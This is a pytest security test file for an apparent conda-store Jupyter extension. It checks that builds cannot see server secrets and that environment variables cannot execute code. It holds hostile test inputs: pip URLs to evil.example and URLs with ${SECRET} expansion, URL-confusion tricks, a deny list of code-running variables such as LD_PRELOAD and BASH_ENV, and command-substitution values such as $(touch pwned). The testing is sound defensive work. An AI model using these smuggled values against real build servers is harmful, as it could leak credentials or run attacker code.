"""Builds never see the server's secrets or files, and environment variables never run code.

Through a real server (pytest-jupyter) building against the local channel: pip requirements that
would expand the build's environment, reach local files or VCS, or fetch from a host that is not
allowed are refused when submitted (unless the administrator allows them); the code a build runs
(a source distribution's build backend, served by a local HTTP server) finds no secret of the
server in its environment; lock files cannot read the environment either; an environment's
`variables` are names that cannot make a shell or a loader run code, and values that a real
kernel sees exactly as written.
"""

from __future__ import annotations

import asyncio
import base64
import functools
import hashlib
import http.server
import io
import json
import os
import re
import tarfile
import threading
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlalchemy as sa
import yaml

from conda_store_jupyter.buildenv import build_environment
from conda_store_jupyter.errors import SpecError
from conda_store_jupyter.spec import PipSourcePolicy

from .test_api import Client
from .test_kernels import KERNEL_SPECS, kernel_name_of, run_in_kernel, wait_for_kernelspec

SECRET_NAME = "CSJ_TEST_BUILD_SECRET"
SECRET_VALUE = "s3cr3t-value-of-the-server"


# -- fixtures -----------------------------------------------------------------------------------


@pytest.fixture
def secret(monkeypatch) -> str:
    """A secret in the server's environment, set before the server (and its launcher) start."""
    monkeypatch.setenv(SECRET_NAME, SECRET_VALUE)
    return SECRET_VALUE


@pytest.fixture
def store_extra() -> dict:
    """More CondaStore settings; a test parametrizes it to change the policy."""
    return {}


@pytest.fixture
def conda_store_config(store_dir, local_channel, secret, store_extra) -> dict:
    return {"store_dir": str(store_dir), "channels": [local_channel], **store_extra}


@pytest.fixture
def api(jp_fetch, jp_started_server) -> Client:
    return Client(jp_fetch, jp_started_server)


class _QuietHandler(http.server.SimpleHTTPRequestHandler):
    def log_message(self, *args) -> None:
        pass


class _Server(http.server.ThreadingHTTPServer):
    # A client's idle connection must not hold the test's teardown.
    daemon_threads = True
    block_on_close = False


@pytest.fixture
def wheel_server(tmp_path) -> Iterator[tuple[str, Path]]:
    """A local HTTP server of files (wheels, source archives): (its base URL, its directory)."""
    directory = tmp_path / "served"
    directory.mkdir()
    server = _Server(("127.0.0.1", 0), functools.partial(_QuietHandler, directory=str(directory)))
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", directory
    finally:
        server.shutdown()
        server.server_close()


# -- packages made here --------------------------------------------------------------------------


def _record_hash(data: bytes) -> str:
    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()


def make_wheel(directory: Path, name: str, version: str, module: str) -> Path:
    """A pure-Python wheel holding one module (`module` is its source)."""
    dist = f"{name.replace('-', '_')}-{version}"
    files = {
        f"{name.replace('-', '_')}.py": module.encode(),
        f"{dist}.dist-info/METADATA": (
            f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n".encode()
        ),
        f"{dist}.dist-info/WHEEL": (
            b"Wheel-Version: 1.0\nGenerator: csj-test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        ),
    }
    record = "".join(f"{path},{_record_hash(data)},{len(data)}\n" for path, data in files.items())
    files[f"{dist}.dist-info/RECORD"] = (record + f"{dist}.dist-info/RECORD,,\n").encode()
    path = directory / f"{dist}-py3-none-any.whl"
    with zipfile.ZipFile(path, "w") as archive:
        for member, data in files.items():
            archive.writestr(member, data)
    return path


# The build backend of the probe's source archive: every hook uv calls appends the environment it
# runs with to a file, then it builds a wheel. This is code an editor chooses, run by the build.
PROBE_BACKEND = """
import json, os, sys
sys.path.insert(0, os.path.dirname(__file__))
OUT = {out!r}

def _dump(hook):
    with open(OUT, "a") as handle:
        handle.write(json.dumps({{"hook": hook, "environ": dict(os.environ)}}) + "\\n")

def get_requires_for_build_wheel(config_settings=None):
    _dump("get_requires_for_build_wheel")
    return []

def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _dump("build_wheel")
    from make_wheel import make_wheel
    from pathlib import Path
    return make_wheel(Path(wheel_directory), "csj-envprobe", "1.0", "SEEN = True\\n").name
"""


def make_probe_sdist(directory: Path, out: Path) -> Path:
    """`csj-envprobe` 1.0 as a source archive whose in-tree build backend records its environment
    in `out` (it needs nothing from an index: `requires = []`)."""
    import inspect

    members = {
        "pyproject.toml": (
            '[build-system]\nrequires = []\nbuild-backend = "probe_backend"\nbackend-path = ["."]\n'
            '[project]\nname = "csj-envprobe"\nversion = "1.0"\n'
        ),
        "PKG-INFO": "Metadata-Version: 2.1\nName: csj-envprobe\nVersion: 1.0\n",
        "probe_backend.py": PROBE_BACKEND.format(out=str(out)),
        "make_wheel.py": "import base64, hashlib, zipfile\nfrom pathlib import Path\n\n"
        + inspect.getsource(_record_hash)
        + "\n\n"
        + inspect.getsource(make_wheel),
    }
    path = directory / "csj_envprobe-1.0.tar.gz"
    with tarfile.open(path, "w:gz") as archive:
        for member, text in members.items():
            data = text.encode()
            info = tarfile.TarInfo(f"csj_envprobe-1.0/{member}")
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return path


async def submit_pip(api: Client, name: str, *requirements: str) -> int:
    return await api.submit(name, "python", {"pip": list(requirements)})


async def refused(api: Client, document: dict, **extra) -> str:
    """Submit `document` (a specification) expecting a 400; returns the message."""
    code, message = await api.error(
        "POST",
        "specification",
        body={
            "namespace": "default",
            "specification": yaml.safe_dump(document),
            **extra,
        },
    )
    assert code == 400, message
    return message


# -- item 6: pip requirements ---------------------------------------------------------------------


@pytest.mark.parametrize(
    ("requirement", "problem"),
    [
        # Expanded by uv from the build's environment, had it got there.
        (f"x @ https://files.pythonhosted.org/${{{SECRET_NAME}}}.whl", "must not contain '$'"),
        (
            f"x @ https://files.pythonhosted.org/x-1.0-py3-none-any.whl#${{{SECRET_NAME}}}",
            "must not contain '$'",
        ),
        # The builder's files: a directory whose build backend would run, a path, an archive name.
        ("evilpkg @ file:///some/dir", "local files and directories are not allowed"),
        ("evilpkg @ ./dir", "local files and directories are not allowed"),
        ("./dir", "is a local path"),
        ("/some/dir", "is a local path"),
        ("../wheels/evilpkg-1.0-py3-none-any.whl", "is a local path"),
        ("evilpkg-1.0.tar.gz", "local files and directories are not allowed"),
        # VCS checkouts are built; ssh would clone with the server's keys.
        ("evilpkg @ git+https://github.com/evil/evilpkg.git", "VCS URLs are not allowed"),
        ("git+https://github.com/evil/evilpkg.git", "is a bare URL"),
        # Hosts that are not an index's and not allowed, however the URL is spelled.
        (
            "evilpkg @ https://evil.example/evilpkg-1.0-py3-none-any.whl",
            "host evil.example is not an allowed pip source",
        ),
        (
            "evilpkg @ https://files.pythonhosted.org@evil.example/e.whl",
            "host evil.example is not an allowed pip source",
        ),
        (
            "evilpkg @ https://files.pythonhosted.org\\@evil.example/e.whl",
            "must not contain a backslash",
        ),
        (
            "evilpkg @ ftp://files.pythonhosted.org/e.whl",
            "URL scheme 'ftp' is not an allowed pip source",
        ),
    ],
)
async def test_pip_requirement_refused_when_submitted(api, requirement, problem):
    message = await refused(
        api, {"name": "evil", "dependencies": ["python", {"pip": [requirement]}]}
    )
    assert repr(requirement) in message and problem in message, message
    assert SECRET_VALUE not in message
    code, _ = await api.error("GET", "environment", "default", "evil")
    assert code == 404  # nothing stored


@pytest.mark.parametrize(
    "store_extra", [{"pip_allowed_hosts": ["files.pythonhosted.org", "127.0.0.1"]}]
)
async def test_build_runs_with_no_secret_of_the_server(api, wheel_server, tmp_path, secret):
    """A source archive's build backend runs during the build (uv builds it): what it finds in its
    environment is what the build has. The server's secret is not there, nor in the launcher's."""
    base_url, served = wheel_server
    seen = tmp_path / "seen-environ.jsonl"
    make_probe_sdist(served, seen)
    assert os.environ[SECRET_NAME] == secret  # the server process has it

    # The server allows the local HTTP server's host (pip_allowed_hosts).
    build = await api.wait(
        await submit_pip(api, "probe", f"csj-envprobe @ {base_url}/csj_envprobe-1.0.tar.gz"),
        timeout=300,
    )
    assert build["status"] == "COMPLETED", build["status_info"]

    records = [json.loads(line) for line in seen.read_text().splitlines()]
    assert {record["hook"] for record in records} >= {"build_wheel"}
    for record in records:
        assert SECRET_NAME not in record["environ"]
        assert not any(secret in value for value in record["environ"].values())
    app = next(iter(api.serverapp.extension_manager.extension_apps["conda_store_jupyter"]))
    launcher_environ = Path(f"/proc/{app.executor.launcher.pid}/environ").read_bytes().split(b"\0")
    assert launcher_environ and not any(secret.encode() in entry for entry in launcher_environ)
    assert any(entry.startswith(b"PATH=") for entry in launcher_environ)

    log = (await api.call("GET", "build", str(build["id"]), "logs", raw=True)).body.decode()
    assert secret not in log


@pytest.mark.parametrize("store_extra", [{"pip_allow_local": True}])
async def test_local_wheel_allowed_when_the_administrator_allows_it(api, tmp_path):
    wheel = make_wheel(tmp_path, "csj-localwheel", "1.0", "WHERE = 'local'\n")
    build = await api.wait(
        await submit_pip(api, "local", f"csj-localwheel @ {wheel.as_uri()}"), timeout=300
    )
    assert build["status"] == "COMPLETED", build["status_info"]
    packages = (await api.call("GET", "build", str(build["id"]), "packages", size="1000"))["data"]
    assert ("csj-localwheel", "1.0", "pip") in {
        (p["name"], p["version"], p["manager"]) for p in packages
    }
    # Still never VCS, nor a foreign host.
    message = await refused(
        api,
        {"name": "x", "dependencies": ["python", {"pip": ["y @ git+https://github.com/a/y.git"]}]},
    )
    assert "VCS URLs are not allowed" in message


@pytest.mark.parametrize(
    "store_extra", [{"pip_only_binary": True, "pip_allowed_hosts": ["127.0.0.1"]}]
)
async def test_only_binary_wheels(api, wheel_server, tmp_path):
    base_url, served = wheel_server
    seen = tmp_path / "seen-environ.jsonl"
    make_probe_sdist(served, seen)
    make_wheel(served, "csj-binary", "1.0", "KIND = 'wheel'\n")

    message = await refused(
        api,
        {
            "name": "sdist",
            "dependencies": [
                "python",
                {"pip": [f"csj-envprobe @ {base_url}/csj_envprobe-1.0.tar.gz"]},
            ],
        },
    )
    assert "only binary wheels are allowed" in message and "csj_envprobe-1.0.tar.gz" in message
    message = await refused(
        api, {"name": "sdist", "dependencies": ["python", {"pip": ["csj-envprobe-1.0.tar.gz"]}]}
    )
    assert "local files and directories are not allowed" in message

    build = await api.wait(
        await submit_pip(api, "wheel", f"csj-binary @ {base_url}/csj_binary-1.0-py3-none-any.whl"),
        timeout=300,
    )
    assert build["status"] == "COMPLETED", build["status_info"]
    assert not seen.exists()  # no build backend ever ran


def test_build_environment_is_an_allow_list():
    environ = {
        "PATH": "/usr/bin",
        "HOME": "/home/u",
        "LC_ALL": "C.UTF-8",
        "HTTPS_PROXY": "http://proxy:3128",
        SECRET_NAME: SECRET_VALUE,
        "AWS_SECRET_ACCESS_KEY": "x",
        "PGPASSWORD": "y",
        "PYTHONPATH": "/x",
        "VIRTUAL_ENV": "/venv",
        "UV_INDEX_URL": "https://evil.example/simple",
        "CC": "gcc",
    }
    assert build_environment(environ=environ) == {
        "PATH": "/usr/bin",
        "HOME": "/home/u",
        "LC_ALL": "C.UTF-8",
        "HTTPS_PROXY": "http://proxy:3128",
    }
    assert build_environment(["CC", "PG*"], environ=environ)["PGPASSWORD"] == "y"
    assert "PATH" in build_environment(environ={})


def test_uv_never_gets_a_requirement_it_would_expand(tmp_path, secret):
    """The build checks again what the submit checked (a specification stored before the rules,
    or before the administrator tightened them, is held to today's)."""
    from conda_store_jupyter.buildlog import BuildLog
    from conda_store_jupyter.pip import resolve

    log = BuildLog(tmp_path / "build.log")
    for requirement, problem in (
        (f"x @ https://files.pythonhosted.org/${{{SECRET_NAME}}}.whl", "must not contain '$'"),
        ("x @ file:///some/dir", "local files and directories are not allowed"),
    ):
        with pytest.raises(SpecError, match=re.escape(problem)):
            resolve([requirement], "linux-64", "3.11", log, sources=PipSourcePolicy())
    log.close()
    assert secret not in (tmp_path / "build.log").read_text()


# -- lock files ----------------------------------------------------------------------------------


async def _lock_of_a_build(api: Client) -> dict:
    build = await api.wait(await api.submit("locked", "gamma"))
    assert build["status"] == "COMPLETED", build["status_info"]
    return yaml.safe_load(
        (await api.call("GET", "build", str(build["id"]), "lockfile", raw=True)).body
    )


def _pip_entry(content: dict, url: str) -> dict:
    conda = content["package"][0]
    return {
        "name": "evilpkg",
        "version": "1.0",
        "manager": "pip",
        "platform": conda["platform"],
        "dependencies": {},
        "url": url,
        "hash": {"sha256": "0" * 64},
        "category": "main",
        "optional": False,
    }


async def test_lock_file_cannot_read_the_environment_nor_reach_local_files(api, secret):
    original = await _lock_of_a_build(api)

    async def submit(content: dict) -> str:
        return await refused(api, content, is_lockfile=True, environment_name="replay")

    # A conda package URL conda-lock would expand.
    content = json.loads(json.dumps(original))
    url = content["package"][0]["url"]
    content["package"][0]["url"] = url.replace("/noarch/", f"/${{{SECRET_NAME}}}/noarch/").replace(
        f"/{content['package'][0]['platform']}/",
        f"/${{{SECRET_NAME}}}/{content['package'][0]['platform']}/",
    )
    assert "$" in content["package"][0]["url"]
    message = await submit(content)
    assert (
        message.startswith("invalid conda-lock file: package.0.url")
        and "must not contain '$'" in message
    )

    # A channel with credentials: conda-lock would look the value up in the environment and
    # write the name of the variable holding it in its place.
    for channel in (
        f"https://{secret}@conda.example/private",
        f"https://conda.example/t/{secret}/private",
        f"https://conda.example/${{{SECRET_NAME}}}/private",
    ):
        content = json.loads(json.dumps(original))
        content["metadata"]["channels"] = [channel]
        message = await submit(content)
        assert message.startswith("invalid conda-lock file: metadata.channels.0"), message
        assert SECRET_NAME not in message.replace(f"${{{SECRET_NAME}}}", "")

    # pip pins go by the same rules as pip requirements.
    for url, problem in (
        (
            "file:///some/dir/evilpkg-1.0-py3-none-any.whl",
            "local files and directories are not allowed",
        ),
        (
            "https://evil.example/evilpkg-1.0-py3-none-any.whl",
            "host evil.example is not an allowed pip source",
        ),
        (f"https://files.pythonhosted.org/${{{SECRET_NAME}}}.whl", "must not contain '$'"),
    ):
        content = json.loads(json.dumps(original))
        content["package"].append(_pip_entry(content, url))
        message = await submit(content)
        assert "evilpkg 1.0" in message and problem in message, message

    code, _ = await api.error("GET", "environment", "default", "replay")
    assert code == 404


async def test_lock_file_urls_are_never_expanded(local_channel, monkeypatch):
    """`records_from_lockfile` takes a URL as written: a `${NAME}` that names the right channel
    in the builder's environment finds nothing (it used to be expanded)."""
    import rattler

    from conda_store_jupyter.artifacts import read_locked_packages, records_from_lockfile
    from conda_store_jupyter.solver import host_platform

    records = await rattler.solve(
        [local_channel],
        ["gamma"],
        platforms=[host_platform(), "noarch"],
        timestamp_policy="allow-missing",
    )
    gamma = next(record for record in records if record.name.normalized == "gamma")
    head, _, tail = local_channel.rpartition("/")
    monkeypatch.setenv("CSJ_CHANNEL_NAME", tail)
    lock = {
        "version": 1,
        "metadata": {
            "channels": [local_channel],
            "platforms": [host_platform()],
            "content_hash": {host_platform(): "x"},
            "sources": [],
        },
        "package": [
            {
                "name": "gamma",
                "version": str(gamma.version),
                "manager": "conda",
                "platform": host_platform(),
                "dependencies": {},
                "url": str(gamma.url).replace(local_channel, f"{head}/${{CSJ_CHANNEL_NAME}}"),
                "hash": {"md5": gamma.md5.hex()},
                "category": "main",
                "optional": False,
            }
        ],
    }
    # Past the submit-time check, as a lock file stored before it would be.
    from conda_lock.lockfile.v1.models import Lockfile as LockfileV1
    from conda_lock.lockfile.v2prelim.models import lockfile_v1_to_v2

    lockfile = lockfile_v1_to_v2(
        LockfileV1.model_validate({k: v for k, v in lock.items() if k != "version"})
    )
    assert read_locked_packages(lockfile)[host_platform()][0].url.count("${CSJ_CHANNEL_NAME}") == 1
    with pytest.raises(Exception) as raised:
        await records_from_lockfile(lockfile, host_platform())
    assert tail not in str(raised.value).replace(local_channel, "")


# -- item 7: variables ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("BASH_ENV", "cannot be set by an environment"),
        ("ENV", "cannot be set by an environment"),
        ("LD_PRELOAD", "cannot be set by an environment"),
        ("LD_LIBRARY_PATH", "cannot be set by an environment"),
        ("PYTHONSTARTUP", "cannot be set by an environment"),
        ("SHELLOPTS", "cannot be set by an environment"),
        ("PS4", "cannot be set by an environment"),
        ("BASH_FUNC_ls", "cannot be set by an environment"),
        ("JUPYTER_PATH", "cannot be set by an environment"),
        ("bash_env", "cannot be set by an environment"),
        ("1BAD", "is not a valid environment variable name"),
        ("A-B", "is not a valid environment variable name"),
        ("BASH_FUNC_ls%%", "is not a valid environment variable name"),
        ("A B", "is not a valid environment variable name"),
    ],
)
async def test_variable_names_refused(api, name, problem):
    message = await refused(
        api, {"name": "vars", "dependencies": ["gamma"], "variables": {name: "$(true)"}}
    )
    assert message.startswith(f"variables: {name!r} {problem}"), message
    code, _ = await api.error("GET", "environment", "default", "vars")
    assert code == 404


async def test_variable_values_reach_the_kernel_unevaluated(
    api, jp_fetch, jp_ws_fetch, tmp_path, secret
):
    pwned = tmp_path / "pwned"
    values = {
        "CSJ_SUBSTITUTION": f"$(touch {pwned})",
        "CSJ_BACKTICKS": f"`touch {pwned}-2`",
        "CSJ_REFERENCE": f"${{{SECRET_NAME}}} and ${SECRET_NAME}",
        "CSJ_QUOTES": 'it\'s "quoted"; echo no\nsecond line',
    }
    build = await api.wait(await api.submit("vars", *KERNEL_SPECS, variables=values))
    assert build["status"] == "COMPLETED", build["status_info"]
    name = kernel_name_of("default", "vars")
    spec = await wait_for_kernelspec(jp_fetch, name)
    assert not set(values) & set(spec["spec"].get("env", {}))  # not where jupyter_client expands

    names = sorted([*values, "BASH_ENV"])
    code = f"import json, os; print(json.dumps({{k: os.environ.get(k) for k in {names!r}}}))"
    seen = json.loads(await run_in_kernel(jp_fetch, jp_ws_fetch, name, code))
    assert {key: seen[key] for key in values} == values
    assert not list(tmp_path.glob("pwned*"))

    # A specification stored before the rules (here: changed in the database) keeps its text,
    # but the kernel does not get the variable.
    service = api.service
    from conda_store_jupyter.db import Specification

    with service.sessions() as session, session.begin():
        row = session.scalar(
            sa.select(Specification).where(Specification.id == build["specification"]["id"])
        )
        row.spec = {
            **row.spec,
            "variables": {**row.spec["variables"], "BASH_ENV": f"$(touch {pwned}-3)"},
        }
    app = next(iter(api.serverapp.extension_manager.extension_apps["conda_store_jupyter"]))
    await asyncio.to_thread(app.kernels.sync)
    spec = await wait_for_kernelspec(jp_fetch, name)
    assert "BASH_ENV" not in spec["spec"]["metadata"]["conda_store"]["variables"]
    seen = json.loads(await run_in_kernel(jp_fetch, jp_ws_fetch, name, code))
    assert seen["BASH_ENV"] is None and seen["CSJ_SUBSTITUTION"] == values["CSJ_SUBSTITUTION"]
    assert not list(tmp_path.glob("pwned*"))
